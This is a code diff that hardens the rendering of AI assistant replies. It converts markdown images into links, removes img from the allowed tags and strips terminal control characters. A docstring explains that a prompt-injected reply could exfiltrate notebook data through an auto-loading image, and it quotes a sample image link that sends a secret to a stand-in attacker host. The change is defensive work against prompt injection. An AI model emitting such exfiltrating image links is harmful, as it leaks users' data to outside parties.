@@ -14,15 +14,16 @@ import re
 import secrets
 import threading
 from collections.abc import Callable, Sequence
-from dataclasses import dataclass
 from typing import Any
 from urllib.parse import urlsplit
+from xml.etree.ElementTree import Element
 
 import markdown
 import nh3
+from markdown.treeprocessors import Treeprocessor
 from pygments.formatters import HtmlFormatter  # type: ignore[import-untyped, unused-ignore]
 
-from .types import Reply
+from .types import Reply, ToolBlock
 
 _EXTENSIONS = ["fenced_code", "tables", "codehilite", "sane_lists"]
 _EXTENSION_CONFIGS = {
@@ -34,11 +35,10 @@ _TAGS = {
     *("table", "thead", "tbody", "tfoot", "tr", "th", "td", "caption"),
     *("code", "pre", "span", "div", "blockquote", "kbd", "samp", "var"),
     *("em", "strong", "b", "i", "u", "del", "s", "ins", "mark", "small"),
-    *("a", "img", "details", "summary", "hr", "br", "sup", "sub", "abbr"),
+    *("a", "details", "summary", "hr", "br", "sup", "sub", "abbr"),
 }
 _ATTRIBUTES = {
     "a": {"href", "title"},
-    "img": {"src", "alt", "title"},
     "abbr": {"title"},
     "ol": {"start"},
     "th": {"align"},
@@ -101,10 +101,8 @@ def restore_math(html_text: str, found: dict[str, str]) -> str:
     return pattern.sub(lambda m: html.escape(found[m.group(0)]), html_text)
 
 
-def _filter_attribute(tag: str, attribute: str, value: str) -> str | None:
-    """Keep only http(s) images and drop classes that could spoof our own."""
-    if tag == "img" and attribute == "src":
-        return value if value.strip().lower().startswith(("http:", "https:")) else None
+def _filter_attribute(tag: str, attribute: str, value: str) -> str | None:  # noqa: ARG001
+    """Drop classes that could spoof our own chrome (error lines, footers)."""
     if attribute == "class":
         kept = [name for name in value.split() if not name.startswith("gmi-")]
         return " ".join(kept) or None
@@ -127,6 +125,30 @@ def sanitize(html_text: str) -> str:
     return _cleaner().clean(html_text)
 
 
+class ImagesAsLinks(Treeprocessor):  # type: ignore[misc]
+    """Markdown images become links the reader may open.
+
+    A remote image loads by itself, so a prompt-injected reply could leak notebook
+    data through its URL (``![](https://evil.example/?q=secret)``).
+    """
+
+    def run(self, root: Element) -> None:
+        for image in root.iter("img"):
+            src, alt = image.get("src", ""), image.get("alt") or "image"
+            image.tag = "a"
+            image.attrib.clear()
+            image.set("href", src)
+            image.text = f"🖼 {alt}"
+
+
+_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
+
+
+def strip_control(text: str) -> str:
+    """Drop control characters (ANSI/OSC escapes, CR, …) from text bound for a terminal."""
+    return _CONTROL.sub("", text)
+
+
 _LOCAL = threading.local()
 
 
@@ -137,6 +159,7 @@ def _converter() -> markdown.Markdown:
         converter = markdown.Markdown(
             extensions=_EXTENSIONS, extension_configs=_EXTENSION_CONFIGS, output_format="html"
         )
+        converter.treeprocessors.register(ImagesAsLinks(converter), "gmi_images", 8)
         _LOCAL.converter = converter
     return converter.reset()
 
@@ -195,7 +218,8 @@ def stylesheet(style: str = "default") -> str:
     scope = ".gmi-reply .codehilite"
     background = formatter.get_background_style_defs(scope)
     tokens = formatter.get_token_style_defs(scope)
-    return "\n".join([*background, *tokens]) + _EXTRA_CSS
+    css = "\n".join([*background, *tokens])
+    return re.sub(r"\s*/\*.*?\*/", "", css) + _EXTRA_CSS  # comments only cost bytes
 
 
 def _div(css_class: str, text: str) -> str:
@@ -205,17 +229,6 @@ def _div(css_class: str, text: str) -> str:
 def _thinking(body: str, *, expanded: bool) -> str:
     opened = " open" if expanded else ""
     return f'<details class="gmi-thinking"{opened}><summary>Thinking</summary>{body}</details>'
-
-
-@dataclass(frozen=True)
-class ToolBlock:
-    """One tool call as the user sees it: name, arguments, result or error, time."""
-
-    name: str
-    arguments: str
-    output: str
-    seconds: float = 0.0
-    error: str | None = None
 
 
 MAX_TOOL_OUTPUT_SHOWN = 2_000
@@ -323,7 +336,8 @@ def reply_text(
     head += "".join(tool_text(block) + "\n" for block in tools)
     tail = [*notes, *([f"Error: {error}"] if error else []), footer_text(reply)]
     tail_text = "\n".join(line for line in tail if line)
-    return f"{head}{reply.text}\n\n{tail_text}" if tail_text else head + reply.text
+    text = f"{head}{reply.text}\n\n{tail_text}" if tail_text else head + reply.text
+    return strip_control(text)
 
 
 def reply_bundle(
